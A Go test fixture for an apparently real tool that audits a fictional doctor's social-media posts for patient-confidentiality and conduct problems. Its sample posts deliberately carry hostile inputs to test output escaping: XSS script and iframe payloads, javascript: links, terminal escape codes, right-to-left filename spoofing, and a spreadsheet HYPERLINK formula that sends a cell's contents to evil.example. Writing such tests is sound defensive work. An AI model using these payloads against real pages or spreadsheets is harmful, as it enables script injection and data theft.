package report

import (
	"strings"
	"time"

	"github.com/probity-audit/probity/audit"
	"github.com/probity-audit/probity/social"
)

func date(y int, m time.Month, d int) time.Time { return time.Date(y, m, d, 21, 14, 0, 0, time.UTC) }

// span finds a word in a text and returns where it stands.
func span(text, word string) audit.Span {
	i := strings.Index(text, word)
	if i < 0 {
		panic("the fixture has no " + word)
	}
	return audit.Span{From: i, To: i + len(word)}
}

var (
	ruleNumber = &audit.Rule{
		ID: "patient-id-number", Area: audit.PatientIdentifier, Title: "A number that identifies a patient", Severity: audit.Critical,
		Why:     "A health-service number leads to one person. It stays confidential wherever it is written, and what is public has been read by people you did not think of.",
		Advice:  "Take it down today, keep a sealed copy, and tell your information-governance lead or defence body.",
		Clauses: []string{"gmc-2024-18", "gmp-2024-88", "imc9-25", "mchk-1", "hry-direct"}, Needs: []social.Kind{social.KindPost},
	}
	ruleStory = &audit.Rule{
		ID: "patient-story-realtime", Area: audit.PatientStory, Title: "Patient story told as it happens", Severity: audit.High,
		Why:     "A story told from the workplace, soon after, is recognised by those who were there.",
		Advice:  "Delete it, or leave out time and place and wait for months.",
		Clauses: []string{"gmc-2024-18", "gmc-blog-place", "imc8-20-patients", "mchk-1", "study-ahmed-2020"}, Needs: []social.Kind{social.KindPost, social.KindReply},
	}
	ruleColleague = &audit.Rule{
		ID: "disrespect-colleague", Area: audit.ColleagueDisrespect, Title: "Disrespect for a colleague", Severity: audit.Medium,
		Why: "Colleagues can be found from role and place.", Advice: "Delete it, apologise if it was seen, and use a local channel.",
		Reply:   "I was wrong to write <that> & I have taken it down.\nI am sorry.",
		Clauses: []string{"gmp-2024-48", "gmc-2024-14", "imc9-colleagues", "mchk-19"},
	}
	ruleSetting = &audit.Rule{
		ID: "setting-tag-review", Area: audit.PrivacySetting, Title: "Tags appear without approval", Severity: audit.Low,
		Why: "What others post can show you too.", Advice: "Switch on approval of tags.",
		Clauses: []string{"mddus-tags", "imc9-social-media", "mps-hk-standards"}, Needs: []social.Kind{social.KindSetting},
	}
	ruleInfo = &audit.Rule{
		ID: "patient-story-any", Area: audit.PatientMention, Title: "Mention of a patient", Severity: audit.Info,
		Why: "The Irish guide asks to avoid discussing patients at all.", Advice: "Consider whether it is needed.",
		Clauses: []string{"imc8-20-patients", "gmc-2024-18", "mchk-1"},
	}
)

// Texts that try to get out of the cell, the quotation or the page they are in.
const (
	hostileHTML = "Clinic list again: NHS no 999 893 8074 <script>alert(1)</script><img src=x onerror=alert(2)> \"'`--><!-- </blockquote>"
	hostileTerm = "Just pronounced a cyclist \x1b[2J\x1b]0;owned\x07 on Holm Road \u009b31m, 10 minutes ago \u202egnp.exe\u202c end"
	cjkEmoji    = "診所今晚很忙碌護士們都非常辛苦大家請多多包涵謝謝 👩🏽‍⚕️🏴󠁧󠁢󠁥󠁮󠁧󠁿🇭🇰 Ortho at St Anne's: all muscle, no cortex"
	formula     = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")\n# Not a heading\n- [x](javascript:alert(1)) ![](http://evil.example/a.png) **bold** www.evil.example | a | b |\n1. one"
)

// fixture is a report of an invented doctor with hostile posts in it.
func fixture() *audit.Report {
	x := social.Account{Provider: "x", ID: "12345", Handle: "drmoira", Name: "Dr Moira Example"}
	m := social.Account{Provider: "mastodon", Server: "social.example", ID: "109", Handle: "moira", Name: "Moira \u202eelpmaxE"}
	post := func(id string, t time.Time) audit.ItemRef {
		return audit.ItemRef{Kind: social.KindPost, ID: id, URL: "https://x.example/drmoira/status/" + id, Published: t, Audience: social.AudiencePublic, Mine: true}
	}
	r := &audit.Report{
		AsOf: date(2026, 5, 4), Jurisdiction: "ie", Rules: []*audit.Rule{ruleNumber, ruleStory, ruleColleague, ruleSetting, ruleInfo},
		Accounts: []audit.AccountSummary{
			{
				Account: x, Name: "Dr Moira Example <b>", Source: "export", Collected: date(2026, 5, 4), Judged: 1204, From: date(2011, 3, 2), To: date(2026, 4, 30),
				Counts: map[string]int{"post": 1100, "reply": 301, "follower": 92, "message": 15, "setting": 4},
				Years:  map[int]int{2011: 40, 2013: 120, 2014: 260, 2018: 410, 2019: 333, 2022: 88, 2026: 12},
			},
			{Account: m, Name: "Moira \u202eelpmaxE", Source: "api", Collected: date(2026, 5, 3), Judged: 55, From: date(2022, 11, 6), To: date(2026, 5, 1), Counts: map[string]int{"post": 55}, Years: map[int]int{2022: 9, 2025: 46}},
		},
		Findings: []audit.Finding{
			{
				Rule: ruleNumber, Severity: audit.Critical, Confidence: 0.97, Account: x, Item: post("900", date(2019, 2, 11)),
				Evidence: audit.Evidence{
					Text: hostileHTML, Spans: []audit.Span{span(hostileHTML, "999 893 8074")}, Cues: []string{"nhs-number", "patient"},
					Reason: "A valid NHS number stands beside a word for a patient.",
				},
			},
			{
				Rule: ruleStory, Severity: audit.High, Confidence: 0.8, Account: m, Item: audit.ItemRef{Kind: social.KindReply, ID: "77", URL: "javascript:alert(1)", Published: date(2022, 11, 6), Audience: social.AudienceFollowers, Mine: true, Group: "ED \x1b[1mbanter"},
				Evidence: audit.Evidence{
					Text: hostileTerm, Answers: "what happened? <iframe src=//evil.example>", Spans: []audit.Span{span(hostileTerm, "pronounced"), span(hostileTerm, "10 minutes ago")},
					Cues: []string{"clinical-verb", "time-now"}, Guards: []string{"plural"}, Reason: "It tells of a case within minutes and names a road.",
				},
			},
			{
				Rule: ruleColleague, Severity: audit.Medium, Confidence: 0.7, Account: x, Item: post("901", date(2014, 8, 19)),
				Evidence: audit.Evidence{Text: cjkEmoji, Spans: []audit.Span{span(cjkEmoji, "no cortex")}, Cues: []string{"insult"}, Guards: []string{"humour-self"}, Reason: "A department that can be found is put down."},
				Decision: &audit.Decision{Verb: "delete", Note: "=1+1 told Bernadette", At: date(2026, 5, 5)},
			},
			{
				Rule: ruleColleague, Severity: audit.Medium, Confidence: 0.6, Account: x, Item: post("902", date(2018, 1, 2)),
				Evidence: audit.Evidence{Text: formula, Spans: []audit.Span{span(formula, "Not a heading\n- [x]")}, Cues: []string{"insult"}, Reason: "=A reason that a spreadsheet would compute."},
			},
			{
				Rule: ruleSetting, Severity: audit.Low, Confidence: 0.9, Account: x, Item: audit.ItemRef{Kind: social.KindSetting, ID: "tags.review"},
				Evidence: audit.Evidence{Reason: "The setting is open."},
			},
			{
				Rule: ruleInfo, Severity: audit.Info, Confidence: 0.5, Account: m, Item: audit.ItemRef{Kind: social.KindPost, ID: "78", Audience: social.AudiencePublic, Mine: true},
				Evidence: audit.Evidence{Text: "Best hug from a patient today", Spans: []audit.Span{{From: 16, To: 23}, {From: 20, To: 900}}, Cues: []string{"patient"}, Reason: "A patient is mentioned."},
			},
		},
		Settings: []audit.AccountSetting{
			{Account: x, Read: true, Value: "Unprotect <b>", State: social.StateOpen, Switch: social.Switch{Key: social.SettingAccount, Name: "Protect your posts", Path: "Settings and privacy > Audience", Want: "on for a personal account"}},
			{Account: x, Switch: social.Switch{Key: social.SettingMessages, Name: "Message requests", Path: "Settings and privacy > Direct messages", Want: "no one"}},
			{Account: m, Read: true, Value: "Vendor\x1b[31m", State: social.StateOpen, Switch: social.Switch{Key: "apps:Vendor", Name: "apps:Vendor"}},
			{Account: m, Read: true, State: social.StateUnknown, Switch: social.Switch{Key: "other.reply", Name: "reply"}},
		},
		Gaps: []audit.AccountGap{
			{Account: x, Gap: social.Gap{Section: "direct messages", Kinds: []social.Kind{social.KindMessage}, Reason: social.ReasonNotInExport, Detail: "ask for the export again with messages", Count: 0}},
			{Account: m, Gap: social.Gap{Section: "likes | <b>", Reason: social.ReasonLimit, Detail: "the newest 4,000\x1b[31m", Count: 4000}},
		},
		NotChecked: []audit.NotChecked{
			{Rule: ruleSetting, Account: m, Reason: "there was nothing of this kind to read: setting"},
			{Rule: ruleStory, Reason: "the owner's workplace is not known"},
			{Rule: ruleNumber, Reason: "the owner's workplace is not known"},
		},
	}
	r.People, r.Stories = fixturePeople(x, m), fixtureStories(x, m)
	for i := range r.Findings {
		f := &r.Findings[i]
		f.ID = audit.Fingerprint(f.Rule.ID, f.Account.Key(), f.Item.ID)
	}
	withChanges(r, x, m)
	return r
}
